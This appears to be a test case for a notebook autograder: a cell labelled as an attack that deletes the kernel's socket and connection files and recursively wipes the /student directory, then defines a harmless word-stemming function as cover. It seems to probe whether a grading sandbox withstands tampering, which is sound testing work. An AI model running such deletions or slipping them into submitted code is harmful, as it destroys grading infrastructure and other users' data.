# ---
# attack: The files of the kernel's sockets and of its connection are deleted.
# ---

# %% grade_id="stem"
import shutil

from ipykernel import get_connection_file

folder = os.path.dirname(get_connection_file())
for name in set(os.listdir(folder)) - {"inputs"}:
    try:
        os.remove(os.path.join(folder, name))
    except OSError as error:
        print(name, error.strerror)
for name in set(os.listdir("/student")) - {os.path.basename(folder)}:
    shutil.rmtree(os.path.join("/student", name), ignore_errors=True)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
